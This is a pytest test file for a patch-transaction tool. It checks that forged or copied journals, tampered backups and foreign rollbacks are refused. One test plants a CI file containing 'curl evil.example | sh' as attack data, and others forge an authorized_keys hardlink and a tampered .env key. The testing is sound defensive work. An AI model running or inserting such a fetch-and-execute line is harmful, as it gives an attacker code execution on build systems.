"""Signatures bind the workspace and the role; before-images are checked before use; --trust-foreign
acts only within what it creates; the secret is outside the workspace and never half-written
(issue 24). Each attack as someone who can copy state between workspaces would try it."""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import pytest

import patchtx
from patchtx import history
from patchtx.errors import PatchtxError
from patchtx.txn import commit, recover

from ..fsops_testing import CrashingFileSystemOps, RecordingFileSystemOps, SimulatedCrash
from .surfaces import cli, everywhere, mcp
from .test_boundary import snapshot
from .test_hostile_state import TXN, entry, forge, without_lock

UPDATE = "*** Begin Patch\n*** Update File: app.py\n@@\n-print('hi')\n+print('bye')\n*** End Patch\n"
ADD = "*** Begin Patch\n*** Add File: new.txt\n+hello\n*** End Patch\n"


def workspace(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "app.py").write_text("print('hi')\n")
    (folder / "keep.txt").write_text("keep\n")
    return folder


def interrupted(root: Path) -> None:
    """Leave a real, signed journal of an update of app.py, crashed at its commit point."""
    plan = patchtx.plan_patch(UPDATE, root)
    (root / ".patchtx/journal").mkdir(parents=True, exist_ok=True)
    (root / ".patchtx/.gitignore").write_text("*\n")
    probe = root.parent / (root.name + "-probe")
    shutil.copytree(root, probe)
    recording = RecordingFileSystemOps()
    commit(patchtx.plan_patch(UPDATE, probe), fs=recording, durable=False)
    mark = [c.index for c in recording.log if c.op == "rename" and (c.target or "").endswith(".committed")]
    with pytest.raises(SimulatedCrash):
        commit(plan, fs=CrashingFileSystemOps(crash_at=mark[0]), durable=False)
    assert (root / "app.py").read_text() == "print('bye')\n"


def test_a_journal_copied_into_another_workspace_is_foreign_there(tmp_path: Path) -> None:
    a, b = workspace(tmp_path / "a"), tmp_path / "b"
    interrupted(a)
    shutil.copytree(a, b, symlinks=True)
    before = without_lock(snapshot(b))
    outcomes = everywhere(b, ADD)
    assert set(outcomes.values()) == {"untrusted_state"}, outcomes
    with pytest.raises(PatchtxError) as caught:
        recover(str(b))
    assert caught.value.kind == "untrusted_state"
    assert without_lock(snapshot(b)) == before
    # In its own workspace it is this user's: recovered.
    assert [t.outcome for t in recover(str(a)).transactions] == ["rolled_back"]
    assert (a / "app.py").read_text() == "print('hi')\n"


def test_history_copied_into_another_workspace_is_never_listed_there(tmp_path: Path) -> None:
    a, b = workspace(tmp_path / "a"), tmp_path / "b"
    done = patchtx.apply_patch(UPDATE, a)
    shutil.copytree(a, b, symlinks=True)
    assert history.log(b) == [] and len(history.untrusted(b)) == 1
    with pytest.raises(PatchtxError) as caught:
        history.undo(b, done.transaction_id)
    assert caught.value.kind == "untrusted_state"
    kind, _ = cli(b, "undo", str(done.transaction_id))
    assert kind == "untrusted_state"
    ((kind, content),) = mcp(b, [("undo", {"transaction": done.transaction_id})], "--undo", "any")
    assert kind == "untrusted_state"
    assert (b / "app.py").read_text() == "print('bye')\n"
    assert [e.transaction_id for e in history.log(a)] == [done.transaction_id]


def test_a_kept_entry_renamed_to_an_interrupted_journal_is_refused(tmp_path: Path) -> None:
    root = workspace(tmp_path / "ws")
    first = patchtx.apply_patch(UPDATE, root)
    patchtx.apply_patch(ADD, root)
    journal = root / ".patchtx/journal"
    [kept] = [p for p in journal.iterdir() if p.name.startswith(f"{first.transaction_id}.kept-")]
    kept.rename(journal / f"{first.transaction_id}.journal")
    before = without_lock(snapshot(root))
    with pytest.raises(PatchtxError) as caught:
        recover(str(root))
    assert caught.value.kind == "journal_damaged" and "undo-history entry" in caught.value.message
    assert set(everywhere(root, ADD.replace("new.txt", "other.txt")).values()) == {"journal_damaged"}
    assert without_lock(snapshot(root)) == before


def test_a_before_image_that_does_not_match_its_hash_is_never_linked(tmp_path: Path) -> None:
    root = workspace(tmp_path / "ws")
    interrupted(root)
    [image] = [p for p in (root / ".patchtx/journal").iterdir() if p.name.endswith(".before")]
    image.unlink()
    image.write_text("print('planted')\n")  # same name, other bytes: not what was preserved
    with pytest.raises(PatchtxError) as caught:
        recover(str(root))
    assert caught.value.kind == "journal_damaged" and "does not match its recorded hash" in caught.value.message
    assert (root / "app.py").read_text() == "print('bye')\n"
    with pytest.raises(PatchtxError):
        recover(str(root), trust_foreign=True)
    assert (root / "app.py").read_text() == "print('bye')\n"


# -- what --trust-foreign may still do -------------------------------------------------------------


def test_trust_foreign_never_remodes_or_reowns_an_existing_folder(tmp_path: Path) -> None:
    root = workspace(tmp_path / "ws")
    (root / "src").mkdir()
    (root / "src").chmod(0o755)
    forge(root, [], removed_dirs=[{"path": "src", "mode": 0o7777, "owner": [0, 0]},
                                  {"path": "made", "mode": 0o4777, "owner": [12345, 12345]}])
    report = recover(str(root), trust_foreign=True)
    assert [t.outcome for t in report.transactions] == ["rolled_back"]
    assert stat.S_IMODE((root / "src").stat().st_mode) == 0o755
    made = (root / "made").stat()  # created by the roll back: its mode, less set-id and sticky bits
    assert stat.S_IMODE(made.st_mode) == 0o777
    assert (made.st_uid, made.st_gid) == (os.geteuid(), os.getegid())


def test_trust_foreign_never_links_an_inode_it_did_not_create(tmp_path: Path) -> None:
    root, outside = workspace(tmp_path / "ws"), tmp_path / "outside"
    outside.mkdir()
    (outside / "authorized_keys").write_text("old\n")
    forge(root, [entry("app.py", before=b"old\n", after=b"print('hi')\n")])
    os.link(outside / "authorized_keys", root / ".patchtx/journal" / f"{TXN}.0.before")
    report = recover(str(root), trust_foreign=True)
    assert [t.outcome for t in report.transactions] == ["rolled_back"]
    restored = (root / "app.py").stat()
    assert (root / "app.py").read_text() == "old\n"
    assert restored.st_ino != (outside / "authorized_keys").stat().st_ino
    assert stat.S_IMODE(restored.st_mode) <= 0o777
    (root / "app.py").write_text("edited in the tree\n")
    assert (outside / "authorized_keys").read_text() == "old\n"


@pytest.mark.parametrize("field", ["before_mode", "after_mode", "owner"])
def test_trust_foreign_range_checks_every_field(tmp_path: Path, field: str) -> None:
    root = workspace(tmp_path / "ws")
    bad = entry("app.py", before=b"old\n", after=b"print('hi')\n")
    bad[field] = [0, 2**40] if field == "owner" else 2**40
    forge(root, [bad], backups={f"{TXN}.0.before": b"old\n"})
    with pytest.raises(PatchtxError) as caught:
        recover(str(root), trust_foreign=True)
    assert caught.value.kind == "journal_damaged"
    kind, _ = cli(root, "recover", "--trust-foreign")
    assert kind == "journal_damaged"
    assert (root / "app.py").read_text() == "print('hi')\n"


# -- the secret ------------------------------------------------------------------------------------


def test_a_secret_inside_the_workspace_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A patch could replace it (and with it every signature): refused before anything is written."""
    root = workspace(tmp_path / "ws")
    home = root / ".state" / "patchtx"
    before = snapshot(root)
    outcomes = everywhere(root, ADD, env={"PATCHTX_STATE_HOME": str(home)})
    assert set(outcomes.values()) == {"io_error"}, outcomes
    monkeypatch.setenv("PATCHTX_STATE_HOME", str(home))
    with pytest.raises(PatchtxError, match="inside the workspace") as caught:
        patchtx.apply_patch(ADD, root)
    assert "Nothing was changed" in caught.value.message
    assert snapshot(root) == before


def test_the_secret_is_whole_or_absent_after_a_failed_first_write(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    from patchtx.txn import provenance

    home = tmp_path / "state"
    monkeypatch.setenv("PATCHTX_STATE_HOME", str(home))
    provenance._cache.clear()

    def full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(provenance.os, "fsync", full)
    with pytest.raises(PatchtxError, match="No space left"):
        provenance.user_secret()
    assert not (home / "secret").exists() and list(home.iterdir()) == []
    monkeypatch.undo()
    monkeypatch.setenv("PATCHTX_STATE_HOME", str(home))
    provenance._cache.clear()
    secret = provenance.user_secret()
    assert bytes.fromhex((home / "secret").read_text()) == secret
    # An empty secret, as an interrupted older version left it, is replaced rather than fatal.
    (home / "secret").write_bytes(b"")
    provenance._cache.clear()
    assert len(provenance.user_secret()) == 32 and (home / "secret").stat().st_size == 65
    provenance._cache.clear()



def _recover_trusting_foreign(root: Path, config: Path) -> PatchtxError:
    """The refusal of ``recover(root, trust_foreign=True)`` in this process, under the host
    configuration ``config``."""
    os.environ["PATCHTX_CONFIG"] = str(config)
    try:
        with pytest.raises(PatchtxError) as caught:
            recover(str(root), trust_foreign=True)
    finally:
        del os.environ["PATCHTX_CONFIG"]
    return caught.value


def test_trust_foreign_stays_within_the_policy(tmp_path: Path) -> None:
    """A cloned repository's journal, rolled back because the user said so, may not rewrite or
    remove a path the host protects (under any name), nor a policy file: refused, nothing done."""
    root = workspace(tmp_path / "ws")
    (root / ".github").mkdir()
    (root / ".github" / "ci.yml").write_text("run: pytest\n")
    (root / "ci-link.yml").symlink_to(".github/ci.yml")
    (root / "pyproject.toml").write_text('[project]\nname = "x"\n')
    config = tmp_path / "config.toml"
    config.write_text('protected = ["ci-link.yml"]\n')  # the file, only under its link's name
    env = {"PATCHTX_CONFIG": str(config)}
    evil = b"run: curl evil.example | sh\n"
    attempts = [
        ([entry(".github/ci.yml", before=evil, after=b"run: pytest\n")], {f"{TXN}.0.before": evil}),
        ([entry(".github/ci.yml", after=b"run: pytest\n")], {}),  # "added" by it: removed
        ([entry("pyproject.toml", before=b"[tool.patchtx]\nallow-policy-edit = true\n",
                after=b'[project]\nname = "x"\n')],
         {f"{TXN}.0.before": b"[tool.patchtx]\nallow-policy-edit = true\n"}),
    ]
    for entries, backups in attempts:
        journal = forge(root, entries, backups=backups)
        before = without_lock(snapshot(root))
        kind, out = cli(root, "recover", "--trust-foreign", env=env)
        assert kind == "policy_violation", out
        assert "Refusing to roll back the foreign journal" in out["error"]["message"]
        refusal = _recover_trusting_foreign(root, config)
        assert refusal.kind == "policy_violation"
        assert without_lock(snapshot(root)) == before
        for name in [journal.name, *backups]:
            (journal.parent / name).unlink()
    # Within the policy, the same roll back goes ahead (app.py is not protected).
    forge(root, [entry("app.py", before=b"old\n", after=b"print('hi')\n")], backups={f"{TXN}.0.before": b"old\n"})
    assert cli(root, "recover", "--trust-foreign", env=env)[0] == "applied"
    assert (root / "app.py").read_text() == "old\n"


def test_trust_foreign_never_writes_a_path_the_host_hides(tmp_path: Path) -> None:
    """A foreign journal whose roll back would write a path the host hides (``hidden``, a host
    setting) is refused as for a protected path, naming the pattern; nothing is done. (The
    mutation run's survivor: the refusal's reason for a hidden path deleted, a traceback.)"""
    root = workspace(tmp_path / "ws")
    (root / ".env").write_text("API_KEY=hunter2\n")
    config = tmp_path / "config.toml"
    config.write_text('hidden = [".env"]\n')
    journal = forge(root, [entry(".env", before=b"API_KEY=evil\n", after=b"API_KEY=hunter2\n")],
                    backups={f"{TXN}.0.before": b"API_KEY=evil\n"})
    assert journal
    before = without_lock(snapshot(root))
    kind, out = cli(root, "recover", "--trust-foreign", env={"PATCHTX_CONFIG": str(config)})
    assert kind == "policy_violation", out
    message = out["error"]["message"]
    assert "Refusing to roll back the foreign journal" in message
    assert "the host hides .env (the pattern '.env')" in message, message
    refusal = _recover_trusting_foreign(root, config)
    assert refusal.kind == "policy_violation"
    assert "the host hides .env (the pattern '.env')" in refusal.message
    assert without_lock(snapshot(root)) == before
